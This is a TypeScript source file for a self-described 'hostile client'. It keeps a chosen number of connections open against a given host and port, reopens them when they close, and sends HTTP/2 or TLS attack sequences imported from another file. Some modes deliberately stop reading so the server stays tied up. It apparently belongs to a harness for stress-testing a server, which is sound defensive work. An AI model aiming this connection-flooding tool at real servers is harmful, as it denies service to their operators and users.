/**
 * A hostile client: `node attacker.js HOST:PORT CONNECTIONS ATTACK`. Keeps so many connections going, each anew when the
 * server ends it, until it is told to end; prints `attacking` when the first ones have been served, and at the end how many
 * connections it made.
 */
import {once} from 'node:events';
import {connect, type Socket} from 'node:net';
import {setPriority} from 'node:os';
import {setTimeout as delay} from 'node:timers/promises';
import {type Attack, http2Attacks, tlsAttacks} from './attacks.js';

setPriority(10); // it shall wear out the server, not the machine
const [address = '', connections = '1', name = ''] = process.argv.slice(2);
const attack = {...http2Attacks, ...(await tlsAttacks())}[name];
if (!attack) throw new RangeError(`there is no attack ${name}`);
const [, host = '', port] = /^(.*):(\d+)$/.exec(address) ?? [];

let made = 0;
let isOver = false;
const isOverSoon = once(process, 'SIGTERM').then(() => {
  isOver = true;
});

async function connectOnce({opening, next, pause, deaf}: Attack): Promise<void> {
  const socket: Socket = connect(Number(port), host).on('error', () => {});
  made += 1;
  const gone = new Promise(resolve => socket.once('close', resolve));
  const ended = Promise.race([gone, isOverSoon]);
  if (deaf) socket.pause();
  else socket.resume();
  socket.write(opening);
  for (let turn = 0; next && !socket.destroyed && !isOver; turn++) {
    const octets = next(turn);
    if (!octets) break;
    const isTaken = socket.write(octets);
    if (!isTaken) await Promise.race([new Promise(resolve => socket.once('drain', resolve)), ended]);
    await Promise.race([delay(pause ?? 0), ended]);
  }
  await ended;
  socket.destroy();
}

async function attackOn(chosen: Attack): Promise<void> {
  while (!isOver) {
    await connectOnce(chosen);
    await delay(5);
  }
}

const alive = setInterval(() => {}, 1000); // paused sockets do not keep a process going
const all = Array.from({length: Number(connections)}, () => attackOn(attack));
await Promise.race([delay(500), isOverSoon]);
console.log('attacking');
await Promise.all(all);
clearInterval(alive);
console.log(`${made} connections`);
